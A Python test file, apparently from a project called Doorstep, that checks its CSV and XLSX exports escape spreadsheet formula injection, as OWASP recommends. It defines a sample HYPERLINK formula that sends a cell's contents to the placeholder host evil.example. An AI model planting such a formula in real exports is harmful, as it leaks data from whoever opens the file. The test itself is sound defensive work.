"""Formula injection: no text Doorstep writes to a CSV or XLSX runs as a formula in a spreadsheet
program (OWASP's rule, ``core.cells``); numbers stay numbers."""

import csv
import io
import re
from pathlib import Path

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from doorstep.core import cells, imports, xlsx
from doorstep.core.charts import Bar, Chart
from doorstep.core.models import Import

HOSTILE = '=HYPERLINK("https://evil.example/?d="&A1,"Pay")'
PACKAGE = Path(__file__).resolve().parents[2]


@pytest.mark.parametrize("text", [HOSTILE, "+1+1", "-2+3", "@SUM(A1)", "\tx", "\r=1", "-", "+254 712 345"])
def test_it_neutralizes_text_that_starts_like_a_formula(text):
    assert cells.neutralize(text) == "'" + text
    assert cells.restore(cells.neutralize(text)) == text


@pytest.mark.parametrize("value", ["-12.5", "+3", "1e-3", "-.5", "0712", "Sunita", "", -4, 2.5, None])
def test_it_leaves_numbers_and_plain_text_alone(value):
    assert cells.neutralize(value) == value


def test_every_csv_writer_goes_through_the_one_helper():
    writers = re.compile(r"csv\.(writer|DictWriter)\(|write_csv\((?!cells\.neutralize_table\()")
    offenders = [
        str(path.relative_to(PACKAGE))
        for path in PACKAGE.rglob("*.py")
        if "tests" not in path.parts
        and "bench" not in path.parts  # synthetic files and the baselines it measures, never a download
        and path.name != "cells.py"
        and writers.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []


def test_the_xlsx_writer_neutralizes_cells_and_headers():
    out = io.BytesIO()
    xlsx.write(out, [("S", [HOSTILE, "n"], iter([[HOSTILE, "-7"], ["@x", "ok"]]))])
    rows = list(openpyxl.load_workbook(io.BytesIO(out.getvalue())).active.values)
    assert rows == [("'" + HOSTILE, "n"), ("'" + HOSTILE, "-7"), ("'@x", "ok")]


def test_a_chart_table_neutralizes_its_labels():
    chart = Chart("x", "Title", "=1+1", [Bar(HOSTILE, -2.0, "-2")])
    assert list(csv.reader(io.StringIO(chart.csv()))) == [["", "'=1+1"], ["'" + HOSTILE, "-2"]]


def test_the_import_error_report_neutralizes_the_file_column_names(world, login, run_jobs):
    client = login(world.organizer_a)
    data = b"Full name,=Phone,Category\nSunita,12,homeworker\n"  # a bad phone number: one row error
    client.post("/orgs/union-a/imports/new/members/", {"file": SimpleUploadedFile("m.csv", data)})
    job = Import.objects.get()
    with run_jobs():
        matched = client.post(
            f"/orgs/union-a/imports/{job.pk}/", {f"column-{i}": k for i, k in job.mapping.items()}
        )
    assert matched.status_code == 302, matched.content.decode()[-3000:]
    report = client.get(f"/orgs/union-a/imports/{job.pk}/errors.csv").content.decode()
    lines = list(csv.reader(io.StringIO(report)))
    assert lines[1][:2] == ["2", "'=Phone"]


def test_a_file_doorstep_wrote_reads_back_as_it_was():
    out = io.StringIO()
    cells.writer(out).writerows([["name", "place"], [HOSTILE, "-1.2 36.8 0 0"]])
    table = imports.read_csv(out.getvalue().encode())
    assert list(table.rows()) == [[HOSTILE, "-1.2 36.8 0 0"]]
